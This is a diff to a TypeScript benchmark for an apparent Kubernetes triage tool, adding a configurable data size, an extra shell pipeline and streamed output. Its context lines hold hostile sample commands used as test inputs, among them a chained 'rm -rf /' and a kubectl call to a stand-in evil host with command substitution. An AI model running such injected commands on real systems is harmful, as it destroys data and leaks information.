@@ -14,7 +14,8 @@ const commandLines = [
   "kubectl delete pod web; rm -rf /",
   "kubectl get pods --server=https://evil.example.com $(id)",
 ];
-const megabytes = 100;
+/** Smaller where the machine is slow or busy: `KUBETRIAGE_BENCH_MB=10 npm run bench -- pipeline`. */
+const megabytes = Number(process.env.KUBETRIAGE_BENCH_MB ?? 100);
 const lineText = (index: number) =>
   `shop   checkout-${(index * 7_919) % 99_991}-x2x8k   1/1   ${index % 5 === 0 ? "Running" : "Pending"}   ${index % 17}   6d18h   10.0.${index % 250}.7`;
 const lineCount = Math.ceil((megabytes * 1_000_000) / (lineText(12_345).length + 1));
@@ -30,14 +31,14 @@ export async function parses(): Promise<string[]> {
   return [`first 1,000        ${first.toFixed(1)} ms`, `later 1,000        ${milliseconds(values)}`];
 }
 
-/** The same lines through the filters of the service and through the programs of the machine, in turns. */
+/** The same lines through the filters of the service and through the programs of the machine, in turns; each is told when it is done. */
 export async function pipelines(): Promise<string[]> {
-  const lines: string[] = [];
   for (const pipeline of [
     "grep -v Running | sort | head",
     "grep -v Running | wc -l",
     "sort -rk5 -n | head -20",
     "awk '{print $4}' | sort -u | head",
+    "awk '{print $4}' | sort | uniq -c",
     "cut -c1-40 | uniq -c | tail -5",
   ]) {
     let peak = 0;
@@ -49,13 +50,11 @@ export async function pipelines(): Promise<string[]> {
       () => throughPrograms(pipeline),
     );
     const rate = (values: readonly number[]) => `${((megabytes * 1_000) / summary(values).median).toFixed(0)} MB/s`;
-    lines.push(
-      pipeline,
-      `  here             ${rate(ours)}, peak ${peak.toFixed(0)} MiB above the start`,
-      `  programs         ${rate(theirs)}, started by sh`,
+    process.stdout.write(
+      `  ${pipeline}\n    here             ${rate(ours)}, peak ${peak.toFixed(0)} MiB above the start\n    programs         ${rate(theirs)}, started by sh\n`,
     );
   }
-  return lines;
+  return [];
 }
 
 /** Answers by how many MiB the process grew at most. */
